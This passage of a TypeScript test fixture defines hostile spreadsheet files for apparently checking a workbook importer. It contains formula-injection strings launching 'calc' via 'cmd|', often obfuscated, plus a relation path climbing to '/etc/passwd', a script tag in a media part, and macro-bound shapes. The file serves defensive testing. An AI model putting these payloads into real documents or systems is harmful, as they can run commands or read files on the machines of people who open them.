  })) },
  { name: "a picture that swells", swells: true, ...left, make: () => swollenChart("xl/media/p.bmp", "BM", "", () => bareBook({
    sheets: [DRAWN], sheetRelations: bareRelation("d1", "drawing", "../drawings/drawing1.xml"),
    parts: { "xl/drawings/drawing1.xml": PICTURE, "xl/drawings/_rels/drawing1.xml.rels": calls(bareRelation("p1", "image", "../media/p.bmp")), "xl/media/p.bmp": "" },
  })) },
  { name: "comments on cells beyond the sheet", make: () => commented(comments(comment("A1048577")), boxes(box(1048576))), ...left },
  { name: "comments on columns beyond the sheet", make: () => commented(comments(comment("XFE1")), boxes(box(0))), ...left },
  { name: "two comments on one cell", make: () => commented(comments(comment("A1") + comment("A1")), boxes(box(0))), ...left },
  { name: "two comments on one cell, called in two ways", make: () => commented(comments(comment("A1") + comment("$a$1")), boxes(box(0))), ...left },
  { name: "a comment on a cell beyond all, in a remark", make: () => commented(comments(`<!-- ${comment("ABCDEFG1")} -->${comment("A1")}`), boxes("<v:x>")), ...left },
  { name: "100,001 corners", make: () => drawn({ "xl/drawings/drawing1.xml": FRAME.replace("<xdr:twoCellAnchor/>", () => many(100001, (i) => `<xdr:oneCellAnchor id="${scattered(i)}"/>`)) }), ...left },
  { name: "a button among the comments", make: () => commented(comments(comment("A1")), boxes(`${box(0)}<v:shape><x:ClientData ObjectType="Button"><x:FmlaMacro>[0]!Run</x:FmlaMacro></x:ClientData></v:shape>`)), ...kept },
  { name: "a comment's box that leads to an address", make: () => commented(comments(comment("A1")), boxes(box(0).replace("<v:shape", '<v:shape href="http://example.org/"'))), ...kept },
  { name: "a comment's box filled with an outside picture", make: () => commented(comments(comment("A1")), boxes(box(0)), { "xl/drawings/_rels/vmlDrawing1.vml.rels": calls(outward("image")) }), ...kept },
  { name: "a comment without a box", make: () => commented(comments(comment("A1")), boxes(box(0)), { "xl/drawings/vmlDrawing1.vml": null }), ...kept },
  { name: "a drawing with nothing on it", make: () => drawn({ "xl/drawings/drawing1.xml": '<xdr:wsDr xmlns:xdr="x"/>', "xl/drawings/_rels/drawing1.xml.rels": null, "xl/charts/chart1.xml": null }), opens: [] },
  { name: "a button and an embedded file", make: () => book({ parts: { "xl/ctrlProps/ctrlProp1.xml": "<x/>", "xl/embeddings/oleObject1.bin": "x" } }), ...left },
  { name: "a drawing whose relations climb out", make: () => drawn({ "xl/drawings/_rels/drawing1.xml.rels": calls(bareRelation("c1", "chart", "../../../../etc/passwd")) }), ...left },
  { name: "a drawing whose relations lead to the workbook", make: () => drawn({ "xl/drawings/_rels/drawing1.xml.rels": calls(bareRelation("c1", "chart", "/xl/workbook.xml")) }), ...left },
  { name: "a drawing that climbs to another sheet", make: () => book({ sheets: [DRAWN, seven], sheetRelations: bareRelation("d1", "drawing", "../worksheets/sheet2.xml") }), opens: [] },
  { name: "a drawing that calls itself", make: () => drawn({ "xl/drawings/_rels/drawing1.xml.rels": calls(bareRelation("c1", "chart", "drawing1.xml")) }), ...left },
  { name: "a drawing that calls what it does not have", make: () => drawn({ "xl/drawings/_rels/drawing1.xml.rels": null }), ...left },
  { name: "a relation whose name is markup", make: () => drawn({ "xl/drawings/_rels/drawing1.xml.rels": calls(bareRelation("c1", "chart", "../charts/chart1.xml") + bareRelation("&quot;/&gt;&lt;x", "image", "../media/p.png")), "xl/media/p.png": "x" }), ...left },
  { name: "one relation for two charts", make: () => drawn({ "xl/drawings/_rels/drawing1.xml.rels": calls(bareRelation("c1", "chart", "../charts/chart1.xml").repeat(2)) }), ...left },
  { name: "a picture from outside", make: () => pictured(outward("image")), ...left },
  { name: "a picture that is a page", make: () => pictured(bareRelation("p1", "image", "../media/p.html"), { "xl/media/p.html": "<script>alert(1)</script>" }), ...left },
  { name: "a picture with a link", make: shape('<a:hlinkClick r:id="p1"/>'), ...left },
  { name: "a shape that runs a macro", make: shape('<xdr:sp macro="[0]!Run"/>'), ...left },
  { name: "a shape with a button's twin", make: shape('<a14:compatExt spid="_x0000_s1"/>'), ...left },
  { name: "a shape that shows another workbook's cell", make: shape('<xdr:sp macro="" textlink="[1]T1!$A$1"/>'), ...left },
  { name: "a slicer in a drawing", make: shape('<a:graphicData uri="http://schemas.microsoft.com/office/drawing/2010/slicer"/>'), ...left },
  { name: "a chart of another workbook's cells", make: withChart(CHART.replace("T1!", "[1]T1!")), ...left },
  { name: "a chart of another program's data", make: withChart(CHART.replace("T1!$A$1", "cmd|'/c calc'!A0")), ...left },
  ...([
    ["in numbers", "<c:f>cmd&#124;'/c calc'!A0</c:f>"], ["in hexadecimal ones", "<c:f>&#x5b;1&#x5d;T1!A1</c:f>"],
    ["behind a remark", "<c:f><!-- x -->cmd|'/c calc'!A0</c:f>"], ["around a remark", "<c:f>cmd<!-- x -->|'/c calc'!A0</c:f>"],
    ["behind a word to programs", "<c:f><?x y?>cmd|'/c calc'!A0</c:f>"], ["behind a tag", "<c:f><c:x/>cmd|'/c calc'!A0</c:f>"],
    ["behind a mark in an attribute", "<c:f a='>'>cmd|'/c calc'!A0</c:f>"], ["as a series' name", "<c:nf>cmd|'/c calc'!A0</c:nf>"],
    ["under another prefix", "<c-c:f xmlns:c-c='c'>cmd|'/c calc'!A0</c-c:f>"],
  ] as const).map(([how, inside]): Hostile => ({
    name: `a chart of another program's data, written ${how}`, make: withChart(CHART.replace("<c:f>T1!$A$1</c:f>", () => inside)), ...left,
  })),
  { name: "a chart with a workbook of its own", make: withChart(CHART.replace("</c:chartS", '<c:externalData id="x"/></c:chartS')), ...left },
  { name: "a chart of a pivot", make: withChart(CHART.replace("<c:chart>", "<c:pivotSource/><c:chart>")), ...left },
  { name: "a chart with a bare mark in it", make: withChart(CHART.replace("T1!", "T1 & T2!")), ...left },
  { name: "a chart with a name of nothing declared", make: withChart(CHART.replace("T1!", "T1&nbsp;!")), ...left },
  { name: "a chart of an unknown family", make: withChart(CHART.replace("<c:f>", "<c:f><x:y/>")), ...left },
  { name: "a chart with a mark that no text may hold", make: withChart(CHART.replace("T1!", "T1\x01!")), ...left },
  { name: "a chart that breaks off", make: withChart(CHART.slice(0, 60)), ...left },
  { name: "a chart that is something else", make: withChart("<html/>"), ...left },
  { name: "a chart in the strict dialect", make: withChart(CHART.replace('"c"', '"http://purl.oclc.org/ooxml/drawingml/chart"')), ...left },
  { name: "a chart in letters of its own", make: withChart(`<?xml version="1.0" encoding="UTF-7"?>${CHART}`), ...left },
  { name: "a chart in 16-bit letters", make: () => drawn({ "xl/charts/chart1.xml": joined(Uint8Array.from([0xff, 0xfe]), wide(`${fetched}${CHART}`)) }), ...left },
  { name: "a chart that is not there", make: () => drawn({ "xl/charts/chart1.xml": null }), ...left },
  { name: "two sheets that share one drawing", make: () => drawn({ "xl/worksheets/_rels/sheet2.xml.rels": calls(bareRelation("d1", "drawing", "../drawings/drawing1.xml")) }, { sheets: [DRAWN, DRAWN] }), opens: ["file-parts-kept", "file-parts-left"] },
  { name: "two drawings that share one picture", ...kept, make: () => drawn({
    "xl/drawings/drawing1.xml": PICTURE, "xl/drawings/drawing2.xml": PICTURE, "xl/charts/chart1.xml": null, "xl/media/p.png": "x",
    ...Object.fromEntries([1, 2].map((n) => [`xl/drawings/_rels/drawing${n}.xml.rels`, calls(bareRelation("p1", "image", "../media/p.png"))])),
    "xl/worksheets/_rels/sheet2.xml.rels": calls(bareRelation("d1", "drawing", "../drawings/drawing2.xml")),
  }, { sheets: [DRAWN, DRAWN] }) },
];

export const hostileFiles: readonly Hostile[] = [...strangers, ...zips, ...markups, ...sheets, ...harmless, ...hanging];
